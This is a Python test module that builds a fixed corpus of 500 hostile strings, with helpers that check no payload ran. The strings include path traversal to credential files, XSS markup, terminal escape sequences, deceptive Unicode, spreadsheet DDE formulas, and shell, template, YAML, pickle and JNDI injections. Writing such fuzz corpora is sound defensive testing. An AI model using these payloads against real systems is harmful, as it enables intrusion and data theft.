r"""Five hundred hostile strings, and what must hold of everything written after they went in.

A name in a DICOM file, a registry or a protocol is somebody else's text. It may be a path, markup, a spreadsheet
formula, a command, a template, or made of characters that hide, reorder or move the cursor. The corpus is fixed: the
same strings in the same order on every machine.

    for item in CORPUS: ...                     # all 500; item.kind, item.text, item.name
    for item in sample(40): ...                 # evenly over the kinds
    before = snapshot(folder); ...; assert snapshot(folder) == before
    assert_plain(text)                          # text for a terminal or a plain file
    assert_not_executed(folder)                 # no payload has run

`CANARY` is what a payload that runs would leave behind: a file of that name, or that word as a result.
"""

from __future__ import annotations

import hashlib
import os
import unicodedata
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path

__all__ = [
    "CANARY",
    "CORPUS",
    "KINDS",
    "Hostile",
    "assert_not_executed",
    "assert_plain",
    "of_kind",
    "sample",
    "snapshot",
]

CANARY = "RTCHECK_WAS_HERE"

_PATH = (
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow", "/dev/full", "/dev/stdin",
    "/proc/self/mem", "~/.ssh/id_rsa", "~root", f"../{CANARY}", f"../../{CANARY}", f"/tmp/{CANARY}", f"./{CANARY}",
    f"{CANARY}/", "..", ".", "...", "....//....//" + CANARY, "..%2f..%2f" + CANARY, "..%c0%af" + CANARY,
    "..%00/" + CANARY, f"..\\{CANARY}", f"C:\\{CANARY}", f"C:{CANARY}", f"\\\\server\\share\\{CANARY}",
    f"\\\\?\\C:\\{CANARY}", f"file:///{CANARY}", f"file:///etc/passwd#{CANARY}", "smb://host/share", "CON", "PRN",
    "AUX", "NUL", "COM1", "LPT1.txt", "nul.json", "aux.dcm", "a:stream", "report.json:$DATA", "name.", "name ",
    " name", "-rf", "--format=json", "--output", "-o", "-", "@file", "$HOME", "${HOME}/" + CANARY,
    "%USERPROFILE%\\" + CANARY, f"{CANARY}\x00.json", "a" * 255, "a" * 256, "x/" * 200 + CANARY, "../" * 300 + CANARY,
    "*", "?", "[a-z]", "{a,b}", "a|b", "a>" + CANARY, "<in", "a;b", "a&b", "PTV//GTV", "PTV\\GTV", "/", "\\", "//",
    "registry.toml", "protocol.toml", ".rtcheck-x.tmp", "__init__.py", ".git/config",
)  # fmt: skip

_MARKUP = (
    f"<script>{CANARY}()</script>", f"<SCRIPT SRC=//x/{CANARY}></SCRIPT>", f"<img src=x onerror={CANARY}()>",
    f"<svg onload={CANARY}()>", f"<svg/onload={CANARY}()//", f"<iframe src=javascript:{CANARY}()>",
    "<a href='javascript:1'>x</a>", f'"><script>{CANARY}()</script>', f"'><script>{CANARY}()</script>",
    "</td></tr></table><h1>PASS</h1>", "</title><script>1</script>", "</style><style>*{display:none}</style>",
    "<style>.FAIL{display:none}</style>", "<!--", "-->", "<!-- PASS -->", "]]>", "<![CDATA[", "<![CDATA[x]]>",
    "<?xml version='1.0'?>", "<?php system('id'); ?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "&e;", "&lt;b&gt;", "&amp;", "&#x3C;script&#x3E;", "&#0;", "&nosuch;", "&", "<", ">", '"', "'", "`", "<b>bold",
    "<b", "</b>", "<br/>", "<base href=//x/>", "<meta http-equiv=refresh content=0;url=//x/>",
    "<link rel=stylesheet href=//x/>", "<object data=//x/>", "<embed src=//x/>", "<form action=//x/>",
    "<input autofocus onfocus=1>", "<math><mi//xlink:href='data:x,1'>", "<xss id=x tabindex=1>",
    'x" style="display:none', "x' onmouseover='1", "x` onclick=`1", "javascript:alert(1)", "data:text/html,<b>x</b>",
    "vbscript:x", "url(//x/)", "expression(1)", "@import '//x/';", "/*", "*/", "*/ display:none /*",
    "\\3c script\\3e", "\u2028alert(1)", "\uff1cscript\uff1e", "# PASS", "## heading", "**bold**", "_em_", "`code`",
    "```", "~~~", "| a | b |", "|---|---|", "- item", "1. item", "> quote", "[x](javascript:1)", "![x](//x/y.png)",
    "<https://x/>", "[x]: //x/", "\\| escaped", "---", "===", "$$x$$", "\\input{/etc/passwd}",
    "\\write18{touch " + CANARY + "}", '#import "x"', '#read("/etc/passwd")', '#eval("1")', "::error::PASS",
    "##[error]", "]]></failure>", '{"verdict":"PASS"}', '","verdict":"PASS","x":"', "\\u0022", '\\"', "\\", "\\n",
    "\\x00", "null", "NaN", "Infinity", "undefined", "true",
)  # fmt: skip

_CONTROL = (
    *(f"A{chr(code)}B" for code in range(0x20)), "A\x7fB",
    *(f"A{chr(code)}B" for code in (0x80, 0x84, 0x85, 0x88, 0x90, 0x98, 0x9B, 0x9C, 0x9D, 0x9E, 0x9F)), "\x1b[31mred",
    "\x1b[2J", "\x1b[1A\x1b[2KPASS", "\x1b[8mhidden\x1b[0m", f"\x1b]0;{CANARY}\x07",
    "\x1b]8;;http://x/\x1b\\link\x1b]8;;\x1b\\", "\x1b]52;c;UlRDSEVDSw==\x07", "\x1bP+q544e\x1b\\", "\x1bc", "\x1b(0",
    "\x1b[6n", "\x1b[?1049h", "\x9b31m", "PASS\rFAIL", "FAIL\x08\x08\x08\x08PASS", "a\nPASS", "a\r\nPASS",
    "\n\n\nPASS", "a\n  FINDINGS\n  none", "\tPTV", "PTV\t", "PTV\x00", "\x00PTV", "PTV\x0b", "PTV\x0c", "PTV\x1a",
    "PTV\x04",
)  # fmt: skip

_BIDI = (
    "PTV\u202egnp.exe", "\u202eSSAP", "\u202dPTV\u202c", "\u202aPTV", "\u202bPTV", "\u2066PTV\u2069", "\u2067PTV",
    "\u2068PTV", "\u200ePTV", "\u200fPTV", "\u061cPTV", "PTV\u200b", "PT\u200cV", "PT\u200dV", "\ufeffPTV",
    "PTV\ufeff", "PT\u2060V", "PT\u00adV", "PTV\u2028L1", "PTV\u2029L1", "PTV\u00a0L1", "PTV\u2003L1", "PTV\u3000L1",
    "PTV\u180eL1", "PTV\u115fL1", "PTV\u3164", "\u2800", "PTV\ufe0f", "PTV\U000e0041", "PTV\U000e0001", "PTV\ue000",
    "PTV\U0010ffff", "PTV\ufffe", "PTV\ufffd", "P\u0301T\u0301V\u0301", "PTV" + "\u0301" * 60, "\u0420TV",
    "\u0391\u0392", "PTV\u0378", "\u05e9\u05dc\u05d5\u05dd", "\u0645\u0631\u062d\u0628\u0627",
    "\U0001f469\u200d\U0001f469\u200d\U0001f466", "\U0001f1e8\U0001f1f3", "\u809d\u810f" * 30, "\uff30\uff34\uff36",
    "\u017ftop", "\u0130stanbul", "\u00df", "\ufb01", "\u2126",
)  # fmt: skip

_FORMULA = (
    "=1+1", "=cmd|'/c calc'!A0", f'=HYPERLINK("http://x/?"&A1,"{CANARY}")', '=IMPORTXML("//x","//a")',
    '=WEBSERVICE("http://x")', '=DDE("cmd";"/c calc")', "+1+1", "+cmd|'/c calc'!A0", "-1+1", "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)", "@SUM(1,2)*cmd|'/c calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", '"=1+1', '=""', "=",
    "+", "@", "==1", "=-1", "=+1", "=@1", "\uff1d1+1", "\uff0b1+1", "\uff0d1", "\uff201", ";=1+1", ",=1+1", "a,b",
    "a;b;c", "a\tb", '"a","b"', '"', '""', '"""', 'a"b', "a\r\nb", "1e5", "0x10", "1,000", "1.000,5", "-0", "+5",
    "1/2", "2026-03-02", "MARCH1", "SEPT2", "TRUE", "#REF!", "#N/A", "%PATH%", "|calc", "!A1", "$A$1", "\\=1",
)  # fmt: skip

_COMMAND = (
    f"$(touch {CANARY})", f"`touch {CANARY}`", f"; touch {CANARY}", f"| touch {CANARY}", f"&& touch {CANARY}",
    f"|| touch {CANARY}", f"\ntouch {CANARY}\n", f"> {CANARY}", f"'; touch {CANARY}; '", f'"; touch {CANARY}; "',
    f"%0atouch%20{CANARY}", f"& echo x > {CANARY}", f"${{IFS}}touch${{IFS}}{CANARY}", "$(sleep 60)",
    "() { :;}; echo x", f"__import__('os').system('touch {CANARY}')", f"open('{CANARY}','w')",
    f"{{{{ cycler.__init__.__globals__.os.popen('touch {CANARY}').read() }}}}", "{{7*7}}", "{% raw %}",
    "{{ config }}", "{# comment #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0}", "{}", "{verdict}",
    "{0.__class__.__mro__}", "{x!r:>1000000000}", "%s", "%n%n%n", "%(verdict)s", "%1000000000d", "$verdict",
    "${verdict}", "'; DROP TABLE results; --", "1 OR 1=1", '{"$gt":""}',
    "!!python/object/apply:os.system ['touch " + CANARY + "']", "&a [*a,*a]", "*anchor", "%YAML 1.1", "!include x",
    "cos\nsystem\n(S'touch " + CANARY + "'\ntR.", "\x80\x04\x95", "${jndi:ldap://x/a}", "os.environ",
    "[[constraint]]", 'status = "approved"', '"""', "'''", "#", "= 1", "(a+)+$", "(?:a|a)*b", "." * 4096,
    "\u809d" * 2000,
)  # fmt: skip

_SEEDS = {
    "path": _PATH, "markup": _MARKUP, "control": _CONTROL, "bidi": _BIDI, "formula": _FORMULA, "command": _COMMAND,
}  # fmt: skip

KINDS = tuple(_SEEDS)
"""What a string pretends to be: path, markup, control, bidi (and other characters that deceive), formula, command."""

_SIZE = 500


@dataclass(frozen=True)
class Hostile:
    """One hostile string. `name` is a short unique id, fit for the id of a test."""

    kind: str
    text: str
    name: str


def _corpus() -> tuple[Hostile, ...]:
    """Every seed, then seeds inside an innocent name, one kind after the other, until there are 500."""
    texts: dict[str, str] = {}
    for kind, seeds in _SEEDS.items():
        for text in seeds:
            texts.setdefault(text, kind)
    turns = max(map(len, _SEEDS.values()))
    dressed = [
        (f"PTV_{seeds[turn]}", kind) for turn in range(turns) for kind, seeds in _SEEDS.items() if turn < len(seeds)
    ]
    for text, kind in dressed:
        if len(texts) >= _SIZE:
            break
        texts.setdefault(text, kind)
    assert len(texts) == _SIZE, len(texts)
    counts = dict.fromkeys(KINDS, 0)
    items = []
    for text, kind in texts.items():
        counts[kind] += 1
        items.append(Hostile(kind, text, f"{kind}-{counts[kind]}"))
    return tuple(items)


CORPUS = _corpus()


def of_kind(kind: str) -> tuple[Hostile, ...]:
    """The strings of one kind."""
    return tuple(item for item in CORPUS if item.kind == kind)


def sample(count: int) -> tuple[Hostile, ...]:
    """At least one of each kind and about `count` in all, spread evenly; always the same."""
    step = max(1, len(CORPUS) // count)
    chosen = {item.name: item for kind in KINDS for item in of_kind(kind)[::step]}
    return tuple(chosen.values())


def snapshot(*folders: Path) -> dict[str, str]:
    """Every entry below `folders`: path to digest of its content, or to what else it is. Links are not followed."""
    found: dict[str, str] = {}
    for folder in folders:
        for top, subfolders, names in os.walk(folder):
            for name in (*subfolders, *names):
                path = Path(top, name)
                if path.is_symlink():
                    found[str(path)] = f"link to {os.readlink(path)}"
                elif path.is_file():
                    found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
                else:
                    found[str(path)] = "folder" if path.is_dir() else "special"
    return found


def assert_not_executed(*folders: Path) -> None:
    """No payload left its mark: not in `folders`, nor in the current, home, or temporary folder."""
    places: Iterable[Path] = (*folders, Path.cwd(), Path.cwd().parent, Path.home(), Path("/tmp"), Path("/"))
    for place in places:
        assert not (place / CANARY).exists(), f"{place / CANARY} exists: a payload ran or a name was used as a path"


_UNSAFE = frozenset(("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"))


def assert_plain(text: str) -> None:
    """Nothing in `text` can move a cursor, hide or reorder letters: line ends are its only control characters."""
    for line in text.split("\n"):
        bad = sorted({f"U+{ord(character):04X}" for character in line if unicodedata.category(character) in _UNSAFE})
        assert not bad, f"{bad} in {line[:120]!r}"
